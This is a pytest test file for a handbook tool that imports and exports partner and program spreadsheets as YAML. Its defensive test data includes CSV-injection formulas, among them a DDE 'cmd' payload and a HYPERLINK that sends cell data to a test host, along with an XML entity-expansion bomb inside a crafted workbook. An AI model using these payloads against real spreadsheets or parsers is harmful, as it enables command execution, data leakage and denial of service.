"""`handbook import` and `handbook export`: spreadsheets of partners and programs, checked row by row."""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import zipfile

import openpyxl
import pytest

from handbook import cli
from handbook.cli import sheets as cli_sheets
from handbook.edition import kinds as edition_kinds
from handbook.edition import load_edition, sheets
from handbook.edition import models as m
from handbook.edition.sheets import spreadsheet
from handbook.problems import EditionError, Problem
from helpers import DATA, ROOT, fill_fixmes, write

PARTNERS = """
# yaml-language-server: $schema=../schemas/partners.schema.json
# Our partners. Keep this comment: the import must not lose it.
partners:

  # ---------------------------------------------------------------- inside city hall

  - id: housing
    name: Housing office     # the name on the door
    kind: internal
    category: housing
    what_they_do: >-
      Runs the repair grants.
    when_to_contact:
      - An owner cannot pay for a roof.   # the usual case
    situations: [paying for repairs]
    contacts:
      - name: Front desk
        phone: 555-0100
        public: true
    last_verified: 2026-09-14

  - id: fire
    name: Fire prevention
    kind: internal
    category: fire
    what_they_do: Inspects for fire hazards.
"""

HEADER = [
    "id",
    "name",
    "kind",
    "category",
    "what_they_do",
    "contact1_name",
    "contact1_phone",
    "languages",
    "situations",
    "public",
    "last_verified",
]
BAD = {57: ("kind", "externl"), 200: ("id", "Bad Id!"), 411: ("last_verified", "2026-13-01")}  # sheet rows


def partner_rows(bad: bool = True) -> list[list[str]]:
    """500 partners after the header; with bad, three of them have one wrong cell each."""
    rows = [HEADER]
    for n in range(1, 501):
        row = {
            "id": f"partner-{n:03}",
            "name": f"Partner number {n}",
            "kind": "external" if n % 2 else "internal",
            "category": "legal aid",
            "what_they_do": f"Helps owners, case {n}.",
            "contact1_name": "Front desk",
            "contact1_phone": f"555-{n:04}",
            "languages": "English; Spanish",
            "situations": "older owners",
            "public": "true" if n % 3 else "false",
            "last_verified": "2026-10-01",
        }
        if bad and n + 1 in BAD:
            key, value = BAD[n + 1]
            row[key] = value
        rows.append([row[key] for key in HEADER])
    return rows


def write_xlsx(path, rows) -> None:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def write_csv(path, rows) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


@pytest.fixture
def edition(minimal):
    write(minimal / "partners.yaml", PARTNERS)
    return minimal


def test_three_bad_rows_of_500_are_reported_at_their_cells_and_nothing_changes(edition, tmp_path, run):
    sheet = tmp_path / "partners.xlsx"
    write_xlsx(sheet, partner_rows())
    before = (edition / "partners.yaml").read_bytes()
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1
    lines = err.splitlines()
    assert [line.split(": ", 1)[0] for line in lines[:-1]] == [f"{sheet}:57:C", f"{sheet}:200:A", f"{sheet}:411:K"]
    assert lines[0] == (
        f"{sheet}:57:C: column 'kind': the text 'externl' is not allowed here; use one of: 'internal' or 'external'"
    )
    assert lines[1].startswith(f"{sheet}:200:A: column 'id': 'Bad Id!' is not a valid id; use lowercase letters")
    assert lines[2].startswith(f"{sheet}:411:K: column 'last_verified': ")
    assert lines[-1] == f"3 problem(s); {edition / 'partners.yaml'} was not changed"
    assert (edition / "partners.yaml").read_bytes() == before
    assert "Traceback" not in err


def test_the_good_rows_land_in_yaml_that_check_accepts_with_the_comments_kept(edition, tmp_path, run):
    sheet = tmp_path / "partners.xlsx"
    write_xlsx(sheet, partner_rows(bad=False))
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 0, err
    assert out == f"{edition / 'partners.yaml'}: 500 partners added, 0 updated, 0 unchanged\n"
    text = (edition / "partners.yaml").read_text(encoding="utf-8")
    assert text.startswith(PARTNERS.lstrip("\n"))  # comments, order and layout of what was there: untouched
    assert "    what_they_do: Inspects for fire hazards.\n\n  - id: partner-001\n    name: Partner number 1\n" in text
    loaded = load_edition(edition)
    assert len(loaded.partners) == 502
    last = loaded.partner("partner-500")
    assert (last.name, last.kind, last.languages, last.public) == (
        "Partner number 500",
        "internal",
        ["English", "Spanish"],
        True,
    )
    assert last.contacts[0].phone == "555-0500" and str(last.last_verified) == "2026-10-01"
    code, out, err = run("check", "--data", edition)
    assert code == 0, err


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_gives_the_same_yaml_byte_for_byte(edition, tmp_path, run, suffix):
    write_xlsx(tmp_path / "start.xlsx", partner_rows(bad=False)[:40])
    assert run("import", "partners", tmp_path / "start.xlsx", "--data", edition)[0] == 0
    before = (edition / "partners.yaml").read_bytes()
    sheet = tmp_path / f"out{suffix}"
    code, out, err = run("export", "partners", sheet, "--data", edition)
    assert (code, out) == (0, f"wrote 41 partners to {sheet}\n"), err
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 0, err
    assert out.endswith(": 0 partners added, 0 updated, 41 unchanged; nothing to change\n")
    assert (edition / "partners.yaml").read_bytes() == before

    # into an empty list, the same sheet writes the items exactly as the first import wrote them
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    (fresh / "partners.yaml").write_text(
        "# new\npartners:\n\n  - id: seed\n    name: Seed\n    kind: internal\n    category: x\n    what_they_do: Y.\n",
        encoding="utf-8",
    )
    assert sheets.import_sheet(fresh, "partners", sheet).added == 41
    first = "  - id: partner-001"
    assert (fresh / "partners.yaml").read_text(encoding="utf-8").split(first)[1] == before.decode().split(first)[1]
    again = tmp_path / f"again{suffix}"
    sheets.export_sheet(fresh, "partners", again)
    assert sheets.import_sheet(fresh, "partners", again).written is False


def test_a_row_with_a_known_id_changes_only_its_cells_and_keeps_the_rest(edition, tmp_path, run):
    sheet = tmp_path / "update.csv"
    write_csv(
        sheet,
        [
            ["id", "name", "contact1_phone", "languages"],
            ["housing", "Housing and repairs office", "555-0199", "English; Somali"],
        ],
    )
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert (code, out) == (0, f"{edition / 'partners.yaml'}: 0 partners added, 1 updated, 0 unchanged\n"), err
    text = (edition / "partners.yaml").read_text(encoding="utf-8")
    assert text == PARTNERS.lstrip("\n").replace(
        "name: Housing office     # the name on the door", "name: Housing and repairs office # the name on the door"
    ).replace("555-0100", "555-0199").replace(
        "    last_verified: 2026-09-14\n", "    languages: [English, Somali]\n    last_verified: 2026-09-14\n"
    )
    partner = load_edition(edition).partner("housing")
    assert partner.contacts[0].public is True and partner.what_they_do == "Runs the repair grants."


def test_an_empty_cell_removes_its_key(edition, tmp_path, run):
    sheet = tmp_path / "update.csv"
    write_csv(sheet, [["id", "situations"], ["housing", ""]])
    assert run("import", "partners", sheet, "--data", edition)[0] == 0
    assert "situations" not in (edition / "partners.yaml").read_text(encoding="utf-8").split("- id: fire")[0]


def test_unknown_columns_and_a_missing_id_column_are_reported_in_row_1(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    write_csv(sheet, [["name", "phone_number", "contact1_phne"], ["X", "1", "2"]])
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1
    assert err.splitlines() == [
        f"{sheet}:1:A: the sheet has no 'id' column; every row needs the id of its item (e.g. housing-department)",
        f"{sheet}:1:B: warning: column 'phone_number' is not one the handbook reads, so its cells are ignored; "
        "the columns are: "
        + ", ".join(
            [
                "id",
                "name",
                "kind",
                "category",
                "what_they_do",
                "when_to_contact",
                "situations",
                "who_may_contact",
                "contact1_name",
                "contact1_title",
                "contact1_phone",
                "contact1_email",
                "contact1_public",
                "languages",
                "service_area",
                "url",
                "public",
                "last_verified",
            ]
        ),
        f"{sheet}:1:C: unknown column 'contact1_phne'; did you mean 'contact1_phone'?",
        f"2 problem(s); {edition / 'partners.yaml'} was not changed",
    ]  # the warning is not counted


def test_a_program_must_name_a_known_partner_and_duplicate_ids_are_caught(edition, tmp_path, run):
    sheet = tmp_path / "programs.csv"
    columns = ["id", "name", "provider", "helps_with", "who_qualifies", "cost_to_owner", "how_to_apply", "public"]
    write_csv(
        sheet,
        [
            columns,
            ["roof", "Roof grant", "housin", "roof; gutters", "Owners", "Nothing", "Call.", "true"],
            ["roof", "Roof loan", "housing", "roof", "Owners", "A loan", "Call.", "true"],
        ],
    )
    code, out, err = run("import", "programs", sheet, "--data", edition)
    assert code == 1
    assert err.splitlines() == [
        f"{sheet}:2:C: column 'provider': no partner has the id 'housin'; did you mean 'housing'?",
        f"{sheet}:3:A: column 'id': 'roof' is also the id on row 2; give each program its own id, "
        "or keep one of the rows",
        f"2 problem(s); {edition / 'programs.yaml'} was not changed",
    ]
    assert not (edition / "programs.yaml").exists()
    write_csv(
        sheet, [columns, ["roof", "Roof grant", "housing", "roof; gutters", "Owners", "Nothing", "Call.", "true"]]
    )
    assert run("import", "programs", sheet, "--data", edition)[0] == 0
    program = load_edition(edition).programs[0]
    assert (program.provider, program.helps_with, program.public) == ("housing", ["roof", "gutters"], True)


def test_a_sheet_that_is_not_utf8_or_not_a_workbook_says_how_to_save_it(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    sheet.write_bytes("id,name\nhousing,Caf\u00e9\n".encode("cp1252"))
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1 and err.splitlines()[0].startswith(f"{sheet}:1:A: this file is not UTF-8 text")
    book = tmp_path / "partners.xlsx"
    book.write_text("not a workbook", encoding="utf-8")
    code, out, err = run("import", "partners", book, "--data", edition)
    assert code == 1 and err.splitlines()[0].startswith(f"{book}:1:A: this is not an Excel workbook")
    code, out, err = run("import", "partners", tmp_path / "partners.ods", "--data", edition)
    assert code == 2 and "must be a .csv or an .xlsx file" in err


def test_a_new_row_without_a_required_key_says_which_column_to_fill(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    write_csv(sheet, [["id", "name", "kind", "contact1_phone"], ["legal-aid", "Legal aid", "", "555-0100"]])
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1
    assert err.splitlines() == [
        f"{sheet}:2:A: there is no column 'category', which every new partner needs; add the column and fill it in",
        f"{sheet}:2:A: there is no column 'what_they_do', which every new partner needs; add the column and fill it in",
        f"{sheet}:2:C: column 'kind' is empty, but every partner needs one; fill it in",
        f"{sheet}:2:D: there is no column 'contact1_name', which every new contact needs; add the column "
        "and fill it in",
        f"4 problem(s); {edition / 'partners.yaml'} was not changed",
    ]


def test_the_data_file_keeps_its_permissions(edition, tmp_path, run):
    (edition / "partners.yaml").chmod(0o664)
    sheet = tmp_path / "update.csv"
    write_csv(sheet, [["id", "name"], ["fire", "Fire prevention office"]])
    assert run("import", "partners", sheet, "--data", edition)[0] == 0
    assert (edition / "partners.yaml").stat().st_mode & 0o777 == 0o664


def test_export_refuses_a_list_item_with_the_separator_at_its_place(edition, tmp_path, run):
    text = (edition / "partners.yaml").read_text(encoding="utf-8")
    (edition / "partners.yaml").write_text(
        text.replace("situations: [paying for repairs]", "situations: [paying for repairs; loans]"), encoding="utf-8"
    )
    code, out, err = run("export", "partners", tmp_path / "out.csv", "--data", edition)
    assert code == 1
    assert err.splitlines()[0] == (
        f"{edition / 'partners.yaml'}:15:18: this item of 'situations' has a ';', which "
        "the sheet puts between items; write it with a comma instead"
    )
    assert not (tmp_path / "out.csv").exists()


def test_a_csv_saved_with_semicolons_is_read_too(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    sheet.write_text('id;name;languages\nfire;Fire office;"English; French"\n', encoding="utf-8-sig")
    assert run("import", "partners", sheet, "--data", edition)[0] == 0
    partner = load_edition(edition).partner("fire")
    assert (partner.name, partner.languages) == ("Fire office", ["English", "French"])


def test_rows_that_break_the_edition_as_a_whole_are_undone(edition, tmp_path, run, monkeypatch):
    """Rows fine one by one but not together with the rest of a clean edition: the file is put back."""
    calls = []

    def load(root):
        calls.append(root)
        if len(calls) > 1:
            raise EditionError([Problem("partners.yaml", 3, 5, "planted: breaks the edition")])
        return load_edition(root)

    monkeypatch.setattr(cli_sheets, "load_edition", load)
    before = (edition / "partners.yaml").read_bytes()
    sheet = tmp_path / "partners.csv"
    write_csv(sheet, [["id", "name"], ["fire", "Fire office"]])
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1
    assert err.splitlines() == [
        "partners.yaml:3:5: planted: breaks the edition",
        f"1 problem(s) with the sheet's rows in the edition; {edition / 'partners.yaml'} was not changed",
    ]
    assert (edition / "partners.yaml").read_bytes() == before


# What Excel would run as a formula when the keeper opens the sheet (OWASP's CSV injection list), and a
# value that really starts with "'", which must come back as written too.
FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
    "''two quotes",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_cell_excel_would_run_is_written_inert_and_comes_back_as_written(edition, tmp_path, run, suffix):
    items = "".join(
        f"  - id: odd-{n}\n    name: {yaml_quoted(value)}\n    kind: external\n    category: x\n"
        f"    what_they_do: {yaml_quoted(value)}\n"
        for n, value in enumerate(FORMULAS)
    )
    write(edition / "partners.yaml", "partners:\n" + items)
    before = {p.id: (p.name, p.what_they_do) for p in load_edition(edition).partners}
    written = [name for name, _ in before.values()]  # as the data holds them (a leading tab is trimmed)
    assert written[-3:] == FORMULAS[-3:] and all(name.startswith(spreadsheet.FORMULA_STARTS) for name in written)
    sheet = tmp_path / f"out{suffix}"
    code, out, err = run("export", "partners", sheet, "--data", edition)
    assert code == 0, err
    if suffix == ".csv":
        with sheet.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        names = [row[rows[0].index("name")] for row in rows[1:]]
        assert all(name.startswith("'") for name in names)  # Excel shows them as text, runs none
        assert names == ["'" + value for value in FORMULAS]  # the file's text, a leading tab or CR included
    else:
        book = openpyxl.load_workbook(sheet)
        cells = [row[1] for row in book.active.iter_rows(min_row=2)]
        assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}  # strings, typed
        assert all(c.quotePrefix for c in cells if c.value.startswith(spreadsheet.FORMULA_STARTS))
        with zipfile.ZipFile(sheet) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula
    for path in (edition / "partners.yaml",):
        path.write_text("partners: []\n", encoding="utf-8")
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 0, err
    assert {p.id: (p.name, p.what_they_do) for p in load_edition(edition).partners} == before
    # the text as written (import trims a cell's spaces, as it always has: the tab and CR before '=1+1')
    assert [item["name"] for item in sheets.read_items(edition / "partners.yaml", "partners")[0]] == [
        value.strip() for value in FORMULAS
    ]


def yaml_quoted(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def zip_workbook(path, members: dict[str, bytes]) -> None:
    """A workbook made by hand: a real one's parts, with some replaced."""
    book = openpyxl.Workbook()
    book.active.append(["id", "name"])
    book.active.append(["one", "One"])
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts.update(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
    b'&lol;&lol;&lol;&lol;&lol;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize(
    "make, words",
    [
        (
            lambda p: p.write_bytes(b"id,name\none,One\n"),
            "this is not an Excel workbook (an .xlsx file is a zip archive)",
        ),
        (lambda p: p.write_bytes(b"PK\x03\x04" + b"\0" * 100), "this is not an Excel workbook"),
        (lambda p: zip_workbook(p, {"xl/worksheets/sheet1.xml": BOMB}), "declares XML entities (a DOCTYPE)"),
        (
            lambda p: zip_workbook(p, {"xl/sharedStrings.xml": BOMB.replace(b"worksheet", b"sst")}),
            "declares XML entities",
        ),
        (
            lambda p: zip_workbook(
                p,
                {
                    "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:B5000000"/>'
                    b"<sheetData/></worksheet>"
                },
            ),
            "declares 5,000,000 rows",
        ),
        (
            lambda p: zip_workbook(p, {"xl/workbook.xml": b"<workbook"}),
            "this is not an Excel workbook that can be read",
        ),
    ],
)
def test_a_broken_or_hostile_workbook_is_a_located_error(edition, tmp_path, run, make, words):
    sheet = tmp_path / "partners.xlsx"
    make(sheet)
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1 and err.startswith(f"{sheet}:1:A: ") and words in err, err
    assert "Traceback" not in err and "lol" not in err


def write_excel_csv(path, rows) -> None:
    """A CSV as Excel saves one ('CSV UTF-8'): the byte-order mark, CRLF line ends, US dates, TRUE and FALSE."""
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, lineterminator="\r\n").writerows(rows)


def test_a_csv_saved_by_excel_with_us_dates_and_a_notes_column_is_imported(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    write_excel_csv(
        sheet,
        [
            ["id", "name", "kind", "category", "what_they_do", "public", "last_verified", "Notes"],
            [
                "housing",
                "Housing office",
                "internal",
                "housing",
                "Runs the repair grants.",
                "TRUE",
                "11/15/2026",
                "called them in November",
            ],
            ["legal-aid", "Legal aid society", "external", "legal aid", "Free lawyers.", "FALSE", "3/2/2026", ""],
            ["tenants", "Tenant union", "external", "tenants", "Organizes renters.", "TRUE", "46341", "a serial"],
        ],
    )
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert (code, out) == (0, f"{edition / 'partners.yaml'}: 2 partners added, 1 updated, 0 unchanged\n"), err
    assert err.splitlines() == [
        f"{sheet}:1:H: warning: column 'Notes' is not one the handbook reads, so its cells are ignored; the columns "
        "are: " + ", ".join(sheets.columns(m.Partner, []))
    ]
    text = (edition / "partners.yaml").read_text(encoding="utf-8")
    assert text.startswith(PARTNERS.lstrip("\n").split("    contacts:")[0])  # the comments are kept
    assert "        public: true\n    public: true\n    last_verified: 2026-11-15\n\n  - id: fire\n" in text
    assert "  - id: legal-aid\n" in text and "    last_verified: 2026-03-02\n" in text
    assert "called them" not in text and "Notes" not in text
    loaded = load_edition(edition)
    assert [(p.id, p.public, str(p.last_verified)) for p in loaded.partners] == [
        ("housing", True, "2026-11-15"),
        ("fire", False, "None"),
        ("legal-aid", False, "2026-03-02"),
        ("tenants", True, "2026-11-15"),
    ]


def test_a_date_that_is_no_date_says_both_ways_to_write_one(edition, tmp_path, run):
    sheet = tmp_path / "partners.csv"
    write_excel_csv(sheet, [["id", "last_verified"], ["fire", "2026"]])
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert code == 1
    assert err.splitlines()[0] == (
        f"{sheet}:2:B: column 'last_verified': expected a date written YYYY-MM-DD (or "
        "11/15/2026, as Excel writes it), found the text '2026'"
    )


def test_numbers_and_excel_dates_in_an_xlsx_are_the_text_and_days_they_stand_for(edition, tmp_path, run):
    """Cells Excel keeps as numbers: a phone or a name typed as a number, a date column formatted 'General'."""
    sheet = tmp_path / "partners.xlsx"
    write_xlsx(
        sheet,
        [
            ["id", "name", "kind", "category", "what_they_do", "contact1_name", "contact1_phone", "last_verified"],
            ["fire", 12.0, "internal", "fire", "Inspects for fire hazards.", "Desk", 5551234, 46341],
            [
                "legal-aid",
                "Legal aid",
                "external",
                "legal aid",
                "Free lawyers.",
                "Desk",
                5550100.0,
                dt.datetime(2026, 3, 2),
            ],
        ],
    )
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert (code, out, err) == (0, f"{edition / 'partners.yaml'}: 1 partners added, 1 updated, 0 unchanged\n", "")
    text = (edition / "partners.yaml").read_text(encoding="utf-8")
    assert (
        "  - id: fire\n    name: '12'\n    kind: internal\n    category: fire\n    what_they_do: Inspects for fire "
        "hazards.\n    contacts:\n      - name: Desk\n        phone: '5551234'\n    last_verified: 2026-11-15\n"
    ) in text
    partner = load_edition(edition).partner("legal-aid")
    assert (partner.contacts[0].phone, str(partner.last_verified)) == ("5550100", "2026-03-02")


def test_an_empty_list_and_a_missing_key_are_no_change(edition, tmp_path, run):
    path = edition / "partners.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "    what_they_do: Inspects for fire hazards.\n",
            "    what_they_do: Inspects for fire hazards.\n    situations: []   # none yet\n    languages: []\n",
        ),
        encoding="utf-8",
    )
    before = path.read_bytes()
    sheet = tmp_path / "partners.csv"
    assert run("export", "partners", sheet, "--data", edition)[0] == 0
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert (code, out) == (0, f"{path}: 0 partners added, 0 updated, 2 unchanged; nothing to change\n"), err
    assert path.read_bytes() == before

    # a real change on the other row: that row alone is updated, and the empty lists stay as written
    rows = list(csv.reader(sheet.read_text(encoding="utf-8-sig").splitlines()))
    rows[1][rows[0].index("name")] = "Housing and repairs"
    write_excel_csv(sheet, rows)
    code, out, err = run("import", "partners", sheet, "--data", edition)
    assert (code, out) == (0, f"{path}: 0 partners added, 1 updated, 1 unchanged\n"), err
    assert path.read_text(encoding="utf-8") == before.decode().replace(
        "name: Housing office    ", "name: Housing and repairs"
    )


def excel_resaved(rows: list[list[str]]) -> list[list[str]]:
    """An exported sheet as Excel saves it again as CSV: dates 11/15/2026, TRUE and FALSE, a Notes column added."""

    def as_excel(value: str) -> str:
        if re.fullmatch(r"\d{4}-\d\d-\d\d", value):
            day = dt.date.fromisoformat(value)
            return f"{day.month}/{day.day}/{day.year}"
        return {"true": "TRUE", "false": "FALSE"}.get(value, value)

    return [rows[0] + ["Notes"]] + [[as_excel(v) for v in row] + ["checked"] for row in rows[1:]]


def fresh_filled(tmp_path):
    fresh = tmp_path / "fresh"
    assert cli.main(["new", str(fresh), "--name", "City of Testing"]) == 0
    fill_fixmes(fresh)
    return fresh


SHEET_EDITIONS = {
    "data": lambda tmp: DATA,
    "cleveland": lambda tmp: ROOT / "examples" / "cleveland",
    "fresh": fresh_filled,
}  # the other examples and national/ have no lists of their own


@pytest.mark.parametrize("name", sorted(SHEET_EDITIONS))
def test_every_editions_lists_come_back_unchanged_from_excel(name, tmp_path):
    """Export each real list, let Excel save it again (US dates, TRUE, a column of notes): nothing changes."""
    source = SHEET_EDITIONS[name](tmp_path)
    kinds = [kind for kind in edition_kinds.sheets() if sheets.data_path(source, kind).is_file()]
    assert kinds
    for kind in kinds:
        folder = tmp_path / f"{name}-{kind}"
        folder.mkdir()
        shutil.copy(source / f"{kind}.yaml", folder)
        before = (folder / f"{kind}.yaml").read_bytes()
        sheet = tmp_path / f"{name}-{kind}.csv"
        count = sheets.export_sheet(folder, kind, sheet)
        write_excel_csv(sheet, excel_resaved(list(csv.reader(sheet.read_text(encoding="utf-8-sig").splitlines()))))
        result = sheets.import_sheet(folder, kind, sheet)
        assert (result.added, result.updated, result.unchanged, result.written) == (0, 0, count, False), kind
        assert [str(w).split(": ", 2)[1:2] for w in result.warnings] == [["warning"]]
        assert (folder / f"{kind}.yaml").read_bytes() == before
